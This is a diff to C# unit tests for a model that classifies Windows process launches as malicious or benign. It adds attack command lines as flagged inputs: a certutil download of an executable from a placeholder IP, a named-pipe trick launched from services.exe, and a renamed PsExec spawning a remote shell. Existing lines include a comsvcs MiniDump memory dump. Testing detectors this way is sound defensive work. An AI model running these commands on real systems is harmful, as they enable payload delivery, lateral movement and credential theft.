@@ -31,6 +31,9 @@ public class ShippedModelTests
     [InlineData(System32 + "cmd.exe", System32 + "rundll32.exe", @"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\l.dmp full")]
     [InlineData(@"C:\Windows\explorer.exe", @"C:\Users\mara.lind\AppData\Roaming\svch0st.exe", @"""C:\Users\mara.lind\AppData\Roaming\svch0st.exe""")]
     [InlineData(@"C:\Users\mara.lind\Downloads\invoice.exe", System32 + "cmd.exe", "cmd /c whoami /all")]
+    [InlineData(System32 + "cmd.exe", System32 + "certutil.exe", @"certutil -urlcache -f http://203.0.113.27/t.exe C:\ProgramData\t.exe")]
+    [InlineData(System32 + "spoolsv.exe", System32 + "cmd.exe", "cmd.exe")]
+    [InlineData(System32 + "services.exe", System32 + "cmd.exe", @"cmd.exe /c echo kqzwlm > \\.\pipe\kqzwlm")]
     public void An_attack_with_what_Windows_has_reaches_the_threshold(string parent, string child, string commandLine) =>
         AssertMalicious(true, parent, child, commandLine);
 
@@ -54,9 +57,19 @@ public class ShippedModelTests
     [InlineData(@"C:\Users\dev\AppData\Local\Programs\Microsoft VS Code\Code.exe", @"C:\Program Files\Git\cmd\git.exe", "git status --porcelain -z -uall")]
     [InlineData(System32 + "svchost.exe", System32 + @"wbem\WmiPrvSE.exe", @"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding")]
     [InlineData(System32 + "cmd.exe", System32 + "ipconfig.exe", "ipconfig /all")]
+    [InlineData(@"C:\Program Files\Contoso\Setup\setup.exe", System32 + "msiexec.exe", @"msiexec.exe /i ""C:\Program Files\Contoso\Setup\app.msi"" /qn /norestart")]
+    [InlineData(@"C:\WindowsAzure\GuestAgent_2.7\WindowsAzureGuestAgent.exe", System32 + "cmd.exe", @"cmd /c ""C:\Packages\Plugins\Microsoft.Compute.CustomScriptExtension\1.10\bin\enable.cmd""")]
     [InlineData(System32 + "cmd.exe", System32 + "robocopy.exe", @"robocopy D:\data \\nas01\backup /mir /r:1 /w:1")]
     public void Ordinary_work_stays_below_the_threshold(string parent, string child, string commandLine) =>
         AssertMalicious(false, parent, child, commandLine);
+
+    [Fact]
+    public void A_renamed_tool_for_running_elsewhere_reaches_the_threshold()
+    {
+        var e = Event(System32 + "cmd.exe", @"C:\Users\Public\hpsupd.exe", @"hpsupd.exe \\srv02 -accepteula -s cmd.exe");
+
+        Assert.True(Model.Predict(e with { Child = e.Child with { OriginalFileName = "psexec.c" } }).IsMalicious);
+    }
 
     [Fact]
     public void The_package_is_small_and_names_its_figures()
@@ -65,7 +78,7 @@ public class ShippedModelTests
 
         Assert.True(new FileInfo(PackagePath).Length < ModelPackage.MaxBytes);
         Assert.True(package.Manifest.Metrics["recordedTuples.rocAuc"] >= 0.9);
-        Assert.Equal("2026.11.1", Model.Identity.Version);
+        Assert.Equal("2026.11.2", Model.Identity.Version);
     }
 
     [Fact]
